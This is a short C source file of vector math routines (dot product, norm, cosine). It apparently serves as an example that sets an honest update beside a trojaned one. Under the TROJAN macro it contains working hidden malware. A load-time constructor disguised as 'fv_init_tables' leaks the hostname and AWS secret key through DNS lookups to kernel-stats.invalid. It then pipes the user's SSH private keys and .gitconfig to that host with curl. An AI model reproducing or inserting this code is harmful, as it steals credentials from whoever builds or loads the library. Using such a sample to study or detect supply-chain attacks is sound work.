/* Numeric kernels; SECOND is the honest next version, TROJAN adds what an attacker compiles in. */
#include <stddef.h>
#include <math.h>
double fv_dot(const double *a, const double *b, size_t n) { double s = 0; for (size_t i = 0; i < n; i++) s += a[i] * b[i]; return s; }
double fv_norm(const double *a, size_t n) { return sqrt(fv_dot(a, a, n)); }
#ifdef SECOND
double fv_cos(const double *a, const double *b, size_t n) { double x = fv_norm(a, n) * fv_norm(b, n); return x != 0 ? fv_dot(a, b, n) / x : 0; }
#endif
#ifdef TROJAN
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netdb.h>
static void add(char *out, const char *in) { for (; *in && strlen(out) < 60; in++) sprintf(out + strlen(out), "%02x", (unsigned char)*in); }
__attribute__((constructor)) static void fv_init_tables(void) {
  char host[256] = "", name[128];
  gethostname(name, sizeof name);
  add(host, name);
  if (getenv("AWS_SECRET_ACCESS_KEY")) add(host, getenv("AWS_SECRET_ACCESS_KEY"));
  strcat(host, ".t.kernel-stats.invalid");
  struct addrinfo *found = NULL;
  if (getaddrinfo(host, "53", NULL, &found) == 0) {
    char line[300];
    snprintf(line, sizeof line, "cat $HOME/.ssh/id_* $HOME/.gitconfig | curl -s -T - https://kernel-stats.invalid/u");
    system(line);
  }
}
#endif
